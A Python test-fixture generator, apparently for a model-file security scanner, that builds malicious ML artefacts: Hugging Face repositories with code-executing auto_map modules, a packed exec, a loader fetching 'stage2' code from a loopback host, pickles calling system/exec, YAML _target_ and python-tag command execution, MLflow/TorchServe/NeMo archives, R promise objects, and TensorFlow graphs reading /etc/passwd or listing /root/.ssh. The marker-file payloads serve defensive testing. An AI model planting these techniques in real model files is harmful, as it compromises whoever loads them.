# ruff: noqa: ARG001, E501 - tables of files
"""Repositories, directories and configurations that bring code or name it, and R data and graphs of TensorFlow."""

from __future__ import annotations

import bz2
import gzip
import io
import json
import lzma
import struct
import tarfile
import zipfile

from third_asm import MARK, C, G, Item, Style, dump, system
from third_evil_calls import TOUCH, WRITE, c
from third_evil_networks import TEMPLATES
from third_evil_weights import BAD, npy, tarred, zipped

BASE = {
    "architectures": ["TinyForCausalLM"],
    "model_type": "tiny",
    "hidden_size": 8,
    "transformers_version": "4.48.0",
}
HOOK = f"import os\nfrom dataclasses import dataclass\n\n@dataclass\nclass Config:\n    size: int = 8\n\nos.system({TOUCH!r})\n"
QUIET = f"import subprocess, sys\n\ndef _setup():\n    subprocess.Popen(['sh', '-c', {TOUCH!r}]).wait()\n\n_setup()\n\nclass Model:\n    pass\n"
PACKED = f"exec(__import__('zlib').decompress(__import__('base64').b64decode({__import__('base64').b64encode(__import__('zlib').compress(WRITE.encode()))!r})))\n"
BEACON = f"import urllib.request\ntry:\n    exec(urllib.request.urlopen('http://127.0.0.1:9/stage2', timeout=1).read())\nexcept Exception:\n    pass\n{WRITE}\n"


def hub():
    sources = {"decorated": HOOK, "quiet": QUIET, "packed": PACKED, "beacon": BEACON}
    maps = {
        "AutoConfig": "configuration_tiny.Config",
        "AutoModelForCausalLM": "modeling_tiny.Model",
        "AutoTokenizer": ["tokenization_tiny.Tok", None],
        "AutoProcessor": "processing_tiny.Proc",
    }
    for index, (name, source) in enumerate(sources.items()):
        auto, place = list(maps.items())[index]
        module = (place if isinstance(place, str) else place[0]).split(".")[0] + ".py"
        file = (
            "config.json" if index < 2 else "tokenizer_config.json" if index == 2 else "processor_config.json"
        )
        files = {"config.json": json.dumps(BASE), "README.md": "---\nlicense: mit\n---\n", module: source}
        files[file] = json.dumps({**(BASE if file == "config.json" else {}), "auto_map": {auto: place}})
        yield f"auto_map with {name} module", "hub", f"tiny-{index}", files, "script"
    yield (
        "auto_map of another repository",
        "hub",
        "remote",
        {
            "config.json": json.dumps(
                {**BASE, "auto_map": {"AutoModel": "attacker/evil--modeling_evil.Model"}}
            )
        },
        "none",
        "mark",
        "not-clean",
    )
    yield (
        "auto_map without its module",
        "hub",
        "bare",
        {
            "config.json": json.dumps(
                {**BASE, "auto_map": {"AutoConfig": "configuration_x.X"}, "trust_remote_code": True}
            )
        },
        "none",
        "mark",
        "not-clean",
    )
    yield (
        "hubconf of torch.hub",
        "hub",
        "vision",
        {"hubconf.py": f"dependencies = ['torch']\n{HOOK}", "README.md": "x"},
        "script",
    )
    yield (
        "custom generation",
        "hub",
        "generate",
        {"config.json": json.dumps(BASE), "custom_generate/generate.py": QUIET},
        "none",
        "mark",
        "not-clean",
    )
    yield (
        "diffusers pipeline with a class of its own",
        "hub",
        "diffusion",
        {
            "model_index.json": json.dumps(
                {"_class_name": ["pipeline", "EvilPipeline"], "unet": ["my_unet", "UNet"]}
            ),
            "pipeline.py": HOOK,
            "my_unet.py": QUIET,
        },
        "script",
    )
    yield (
        "sentence-transformers module of its own",
        "hub",
        "embedder",
        {
            "modules.json": json.dumps([{"idx": 0, "name": "0", "path": "", "type": "custom_st.Pooler"}]),
            "custom_st.py": QUIET,
            "config.json": json.dumps(BASE),
        },
        "script",
    )
    weights = {
        "pytorch_model.bin": zipped(dump(BAD["system"])),
        "training_args.bin": zipped(dump(C(G("subprocess", "getoutput"), (TOUCH,)))),
        "optimizer.pt": zipped(dump({"state": BAD["exec"]})),
        "rng_state.pth": zipped(dump([BAD["popen"]])),
        "scheduler.pt": zipped(dump(BAD["collect"])),
        "model.joblib": dump(system(), Style(4)),
        "vocab.pkl": dump(system(), Style(0)),
        "codebook.npy": npy(dump(BAD["exec"])),
    }
    for name, data in weights.items():
        yield (
            f"repository whose {name} calls",
            "hub",
            f"repo-{name.split('.')[0]}",
            {
                "config.json": json.dumps(BASE),
                "README.md": "# tiny",
                name: data,
                "tokenizer_config.json": "{}",
            },
            "directory_pickles",
        )
    yield (
        "shard among safetensors",
        "hub",
        "sharded",
        {
            "model-00001-of-00002.safetensors": struct.pack("<Q", 2) + b"{}",
            "pytorch_model-00002-of-00002.bin": zipped(dump(BAD["system"])),
            "pytorch_model.bin.index.json": json.dumps(
                {"metadata": {}, "weight_map": {"a": "pytorch_model-00002-of-00002.bin"}}
            ),
        },
        "directory_pickles",
    )
    for index, (name, template) in enumerate(list(TEMPLATES.items())[:7]):
        if index % 3 == 2:
            yield f"chat_template.jinja: {name}", "template", "chat_template.jinja", template, "template_text"
        else:
            value = (
                [{"name": "default", "template": "{{ messages }}"}, {"name": "rag", "template": template}]
                if index % 2
                else template
            )
            yield (
                f"tokenizer template: {name}",
                "template",
                "tokenizer_config.json",
                json.dumps({"tokenizer_class": "LlamaTokenizer", "chat_template": value}),
                "template_json",
            )
    yield (
        "index that reaches outside",
        "hub",
        "outside",
        {
            "model.safetensors.index.json": json.dumps(
                {"metadata": {}, "weight_map": {"w": "../../../../etc/hostname"}}
            ),
            "config.json": json.dumps(BASE),
        },
        "none",
        "mark",
        "not-clean",
    )


def yamls():
    targets = {
        "os.system": {"_target_": "os.system", "command": TOUCH},
        "subprocess.check_call": {"_target_": "subprocess.check_call", "_args_": [["touch", MARK]]},
        "builtins.exec": {"_target_": "builtins.exec", "_args_": [WRITE]},
        "nested in a trainer": {
            "trainer": {
                "_target_": "types.SimpleNamespace",
                "hooks": [{"_target_": "subprocess.getoutput", "cmd": TOUCH}],
            }
        },
        "partial of eval": {
            "_target_": "functools.partial",
            "_args_": [{"_target_": "builtins.eval", "_args_": [f"__import__('os').system('{TOUCH}')"]}],
        },
        "runpy": {"data": {"_target_": "runpy.run_path", "_args_": ["third-victim/third_module.py"]}},
        "pathlib": {"optimizer": {"_target_": "shutil.copy", "src": "/etc/hostname", "dst": MARK}},
        "pydoc pager": {"logger": {"_target_": "pydoc.pipepager", "text": "x", "cmd": f"cat;{TOUCH}"}},
        "timeit": {"callbacks": {"timer": {"_target_": "timeit.timeit", "stmt": WRITE, "number": 1}}},
    }
    import yaml

    for name, tree in targets.items():
        yield (
            f"_target_ {name}",
            "yaml",
            "config.yaml" if len(name) % 2 else "train.yml",
            yaml.safe_dump(tree),
            "yaml_target",
        )
    yield (
        "class_path of Popen",
        "yaml",
        "lightning.yaml",
        yaml.safe_dump({"model": {"class_path": "subprocess.getoutput", "init_args": {"cmd": TOUCH}}}),
        "yaml_target",
    )
    yield (
        "target and params",
        "yaml",
        "v1-inference.yaml",
        yaml.safe_dump({"model": {"target": "os.system", "params": {"command": TOUCH}}}),
        "yaml_target",
    )
    yield (
        "_target_ in JSON",
        "yaml",
        "hydra.json",
        json.dumps({"model": {"_target_": "os.system", "command": TOUCH}}),
        "yaml_target",
    )
    tags = {
        "apply": f"run: !!python/object/apply:os.system ['{TOUCH}']\n",
        "apply of getoutput": f"- !!python/object/apply:subprocess.getoutput\n  - {TOUCH}\n",
        "new": f"!!python/object/new:type\nargs: ['T', !!python/tuple [], {{'extend': !!python/name:exec }}]\nlistitems: \"{WRITE}\"\n",
        "eval": f'epochs: 3\nlr: !!python/object/apply:eval ["{WRITE}"]\n',
        "anchored": f'a: &x !!python/object/apply:builtins.exec ["{WRITE}"]\nb: *x\n',
    }
    for name, source in tags.items():
        yield f"python tag: {name}", "yaml", f"params_{len(name)}.yaml", source, "yaml_tags"


def mlflow():
    model = "flavors:\n  python_function:\n    loader_module: {0}\n    python_version: 3.11.7\n    {1}\n{2}model_uuid: 0a1b2c3d\nmlflow_version: 2.19.0\n"
    yield (
        "pickled pyfunc",
        "mlflow",
        "model",
        {
            "MLmodel": model.format(
                "mlflow.pyfunc.model", "python_model: python_model.pkl\n    cloudpickle_version: 3.1.0", ""
            ),
            "python_model.pkl": dump(system(), Style(4)),
            "requirements.txt": "mlflow==2.19.0\n",
        },
        "mlflow_load",
    )
    yield (
        "sklearn flavour",
        "mlflow",
        "sk_model",
        {
            "MLmodel": model.format(
                "mlflow.sklearn",
                "model_path: model.pkl",
                "  sklearn:\n    pickled_model: model.pkl\n    serialization_format: cloudpickle\n",
            ),
            "model.pkl": dump({"coef": c("builtins:exec", WRITE)}, Style(5)),
            "conda.yaml": "dependencies: [python=3.11]\n",
        },
        "mlflow_load",
    )
    yield (
        "loader of its own",
        "mlflow",
        "own_loader",
        {
            "MLmodel": model.format("evil_loader", "data: data.bin\n    code: code", ""),
            "code/evil_loader.py": f"import os\ndef _load_pyfunc(path):\n    os.system({TOUCH!r})\n",
            "data.bin": b"x",
        },
        "mlflow_load",
    )
    yield (
        "pytorch flavour",
        "mlflow",
        "torch_model",
        {
            "MLmodel": model.format("mlflow.pytorch", "data: data", "  pytorch:\n    model_data: data\n"),
            "data/model.pth": zipped(dump(BAD["system"])),
            "data/pickle_module_info.txt": "mlflow.pytorch.pickle_module",
        },
        "directory_pickles",
    )
    yield (
        "pickle module replaced",
        "mlflow",
        "module_info",
        {
            "MLmodel": model.format("mlflow.pytorch", "data: data", ""),
            "data/model.pth": zipped(dump(BAD["popen"])),
            "data/pickle_module_info.txt": "dill",
        },
        "directory_pickles",
    )
    yield (
        "data path outside",
        "mlflow",
        "outside",
        {"MLmodel": model.format("mlflow.sklearn", "model_path: ../../../../tmp/model.pkl", "")},
        "none",
        "mark",
        "not-clean",
    )
    yield (
        "code file is the model",
        "mlflow",
        "from_code",
        {
            "MLmodel": model.format(
                "mlflow.pyfunc.model", "python_model: model.py\n    model_code_path: model.py", ""
            ),
            "model.py": QUIET,
        },
        "script",
    )


def served():
    def mar(manifest, files):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as file:
            file.writestr(
                "MAR-INF/MANIFEST.json",
                json.dumps(
                    {
                        "runtime": "python",
                        "model": {"modelName": "tiny", "modelVersion": "1.0", **manifest},
                        "archiverVersion": "0.9.0",
                    }
                ),
            )
            for name, data in files.items():
                file.writestr(name, data)
        return out.getvalue()

    yield (
        "handler calls at import",
        "mar",
        "tiny.mar",
        mar({"handler": "handler.py"}, {"handler.py": HOOK}),
        "mar_load",
    )
    yield (
        "handler unpacks",
        "mar",
        "packed.mar",
        mar({"handler": "serve.py"}, {"serve.py": PACKED, "model.pt": b"x"}),
        "mar_load",
    )
    yield (
        "pickled weights",
        "mar",
        "weights.mar",
        mar(
            {"handler": "image_classifier", "serializedFile": "model.pt"},
            {"model.pt": zipped(dump(BAD["system"]))},
        ),
        "mar_load",
    )
    yield (
        "legacy weights in text protocol",
        "mar",
        "old.mar",
        mar({"handler": "text_classifier", "serializedFile": "m.bin"}, {"m.bin": dump(system(), Style(0))}),
        "mar_load",
    )
    yield (
        "handler in a folder above",
        "mar",
        "above.mar",
        mar({"handler": "../../evil/handler.py"}, {"../../evil/handler.py": HOOK}),
        "none",
        "mark",
        "not-clean",
    )
    yield (
        "serving property starts a program",
        "mar",
        "workflow.mar",
        mar(
            {"handler": "service.py", "requirementsFile": "requirements.txt"},
            {
                "service.py": BEACON,
                "requirements.txt": "--index-url http://127.0.0.1:9/simple\nevil-package\n",
            },
        ),
        "mar_load",
    )
    config = "target: nemo.collections.asr.models.EncDecCTCModel\nencoder:\n  _target_: {0}\n  {1}\n"
    yield (
        "NeMo configuration names a call",
        "nemo",
        "asr.nemo",
        tarred(
            {
                "model_config.yaml": config.format("os.system", f"command: {TOUCH}").encode(),
                "model_weights.ckpt": zipped(dump({"w": 1})),
            }
        ),
        "nemo_load",
    )
    yield (
        "NeMo configuration, subprocess",
        "nemo",
        "tts.nemo",
        gzip.compress(
            tarred(
                {
                    "./model_config.yaml": b"a:\n  _target_: subprocess.getoutput\n  cmd: " + TOUCH.encode(),
                    "./model_weights.ckpt": zipped(dump({})),
                }
            )
        ),
        "nemo_load",
    )
    yield (
        "NeMo weights",
        "nemo",
        "nlp.nemo",
        tarred({"model_config.yaml": b"lr: 1\n", "model_weights.ckpt": zipped(dump(BAD["exec"]))}),
        "nemo_load",
    )
    yield (
        "NeMo, file outside",
        "nemo",
        "up.nemo",
        tarred({"model_config.yaml": b"lr: 1\n", "../../../third-escape": b"x"}),
        "tar_extract",
        "PROOF",
    )


def rds():
    """R objects with a promise that is evaluated when the value is first used."""

    def text(value):
        data = value.encode()
        return struct.pack(">Ii", 9 | 64 << 12, len(data)) + data

    def symbol(name):
        return struct.pack(">I", 1) + text(name)

    def promise(function, argument, environment=253):
        argument_of = (
            struct.pack(">II", 2, 16) + struct.pack(">i", 1) + text(argument) + struct.pack(">I", 254)
        )
        call = struct.pack(">I", 6) + symbol(function) + argument_of
        return struct.pack(">I", 5 | 1 << 10) + struct.pack(">I", environment) + struct.pack(">I", 252) + call

    head = b"X\n" + struct.pack(">III", 2, 0x040300, 0x020300)
    body = head + promise("system", TOUCH)
    yield "promise of system", "rds", "model.rds", gzip.compress(body), "r_load", "mark", "not-clean"
    yield (
        "promise of source",
        "rds",
        "fit.rds",
        bz2.compress(head + promise("source", "http://127.0.0.1:9/x.R")),
        "r_load",
        "mark",
        "not-clean",
    )
    yield (
        "promise of shell in a list",
        "rds",
        "list.rds",
        lzma.compress(head + struct.pack(">Ii", 19, 1) + promise("system", TOUCH, 242)),
        "r_load",
        "mark",
        "not-clean",
    )
    pair = (
        struct.pack(">I", 2 | 1 << 10)
        + symbol("model")
        + promise("system2", "touch")
        + struct.pack(">I", 254)
    )
    yield (
        "promise in a workspace",
        "rds",
        "workspace.RData",
        gzip.compress(b"RDX2\n" + head + pair),
        "r_load",
        "mark",
        "not-clean",
    )


def varint(value):
    out = b""
    while value > 127:
        out, value = out + bytes([value & 127 | 128]), value >> 7
    return out + bytes([value])


def part(number, data):
    data = data.encode() if isinstance(data, str) else data
    return varint(number << 3 | 2) + varint(len(data)) + data


def saved(nodes, *, start=None):
    """A SavedModel of one graph; `start` names the operation that runs when it is loaded."""
    definition = b"".join(part(1, node) for node in nodes) + part(4, varint(1 << 3) + varint(1800))
    graph = part(1, part(4, "serve") + part(5, "2.15.0")) + part(2, definition)
    if start:
        graph += part(4, part(1, "saved_model_main_op") + part(2, part(1, part(1, start))))
        graph += part(
            5,
            part(1, "__saved_model_init_op")
            + part(
                2,
                part(
                    2,
                    part(1, "__saved_model_init_op")
                    + part(2, part(1, start + ":0") + varint(2 << 3) + varint(0)),
                ),
            ),
        )
    return b"\x08\x01" + part(2, graph)


def operation(name, op, *inputs, **attributes):
    return (
        part(1, name)
        + part(2, op)
        + b"".join(part(3, i) for i in inputs)
        + b"".join(part(5, part(1, k) + part(2, v)) for k, v in attributes.items())
    )


def constant(name, value):
    tensor = varint(1 << 3) + varint(7) + part(2, b"") + part(8, value)
    return operation(name, "Const", dtype=varint(6 << 3) + varint(7), value=part(8, tensor))


def tensorflow():
    kind = varint(6 << 3) + varint(7)
    write = [
        constant("f", MARK),
        constant("t", "ssh-rsa AAAA"),
        operation("w", "WriteFile", "f", "t"),
        operation("init", "NoOp", "^w"),
    ]
    folder = {"variables/variables.index": b""}
    yield (
        "graph that writes when it is loaded",
        "savedmodel",
        "writer",
        {"saved_model.pb": saved(write, start="init"), **folder},
        "none",
        "mark",
        "not-clean",
    )
    yield (
        "graph that writes",
        "savedmodel",
        "saved",
        {"saved_model.pb": saved(write), **folder},
        "none",
        "mark",
        "not-clean",
    )
    names = {
        "reads": [constant("f", "/etc/passwd"), operation("r", "ReadFile", "f")],
        "lists": [constant("f", "/" + "root/.ssh/*"), operation("m", "MatchingFiles", "f")],
        "python": [operation("p", "PyFunc", Tin=part(1, b""), token=part(2, "pyfunc_0"))],
        "eager python": [operation("p", "EagerPyFunc", token=part(2, "pyfunc_1"))],
        "unknown": [operation("x", "EvilShellExec", command=part(2, TOUCH))],
        "prints to a file": [
            constant("f", "x"),
            operation("p", "PrintV2", "f", output_stream=part(2, f"file://{MARK}")),
        ],
        "saves": [
            constant("f", "../../../tmp/x"),
            operation("s", "SaveV2", "f", "f", "f", "f", dtypes=part(1, kind)),
        ],
        "asks a host": [constant("f", "http://127.0.0.1:9"), operation("r", "RpcCall", "f", "f")],
    }
    for name, nodes in names.items():
        yield (
            f"graph that {name}",
            "savedmodel",
            name.replace(" ", "_"),
            {"saved_model.pb": saved(nodes), **folder},
            "none",
            "mark",
            "not-clean",
        )
    yield (
        "asset outside",
        "savedmodel",
        "assets",
        {
            "saved_model.pb": saved(
                [
                    constant("f", "../../../../etc/passwd"),
                    operation("t", "InitializeTableFromTextFileV2", "f", "f"),
                ]
            ),
            **folder,
        },
        "none",
        "mark",
        "not-clean",
    )
    yield (
        "keras metadata with a Lambda",
        "savedmodel",
        "metadata",
        {
            "saved_model.pb": saved([constant("a", "b")]),
            "keras_metadata.pb": part(
                1,
                part(
                    4,
                    json.dumps(
                        {
                            "class_name": "Lambda",
                            "config": {
                                "function": {"class_name": "__lambda__", "config": {"code": lambda_code()}}
                            },
                        }
                    ),
                ),
            ),
            **folder,
        },
        "none",
        "mark",
        "not-clean",
    )


def lambda_code():
    from third_evil_networks import BODIES, code

    return code(BODIES["os.system"])


def items(seed):
    for group in (hub, yamls, mlflow, served, rds, tensorflow):
        for name, label, file, data, check, *rest in group():
            proof, expect = (*rest, *("mark", "dangerous")[len(rest) :])
            yield Item(label, name, file, data, check, proof, expect)


__all__ = ["tarfile"]
